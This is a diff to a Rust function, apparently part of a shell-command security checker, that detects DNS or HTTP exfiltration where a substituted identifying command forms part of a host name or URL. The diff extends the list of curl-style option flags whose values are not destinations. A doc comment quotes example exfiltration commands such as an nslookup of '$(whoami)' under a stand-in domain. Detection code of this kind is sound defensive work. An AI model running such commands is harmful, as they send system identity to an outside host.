@@ -368,12 +368,31 @@ const COMPUTED_DESTINATION: &str = "The host name or URL this contacts is built 
 const IDENTIFYING: &[&str] =
     &["whoami", "hostname", "id", "uname", "cat", "head", "tail", "base64", "xxd", "od", "hexdump"];
 
-/// `nslookup $(whoami).x.example`, `curl x.example/$(hostname)`: an operand (not a header
-/// or an output file) where a substitution of an [`IDENTIFYING`] command is part of the name
+/// `nslookup $(whoami).x.example`, `curl x.example/$(hostname)`: an operand (not a header,
+/// an output file or a field) where a substitution of an [`IDENTIFYING`] command is part of the name
 /// or URL. A lookup carries its name to the zone's server as DNS exfiltration does.
 #[inline(never)] // off an allowed call's path (ARCHITECTURE.md, "Start-up")
 fn builds_destination(name: &str, args: &[Word]) -> bool {
-    const NOT_DESTINATIONS: &[&str] = &["-H", "--header", "-o", "--output", "-u", "--user", "-b", "--cookie"];
+    // A header, an output file or a field of the body is not where the request goes.
+    const NOT_DESTINATIONS: &[&str] = &[
+        "-H",
+        "--header",
+        "-o",
+        "--output",
+        "-u",
+        "--user",
+        "-b",
+        "--cookie",
+        "-f",
+        "-F",
+        "--field",
+        "--raw-field",
+        "-d",
+        "--data",
+        "--data-raw",
+        "--data-binary",
+        "--data-urlencode",
+    ];
     args.iter().enumerate().any(|(i, arg)| {
         let after_value_option = i > 0 && NOT_DESTINATIONS.contains(&args[i - 1].text.as_str());
         let destination = !arg.raw.starts_with('-') && !after_value_option
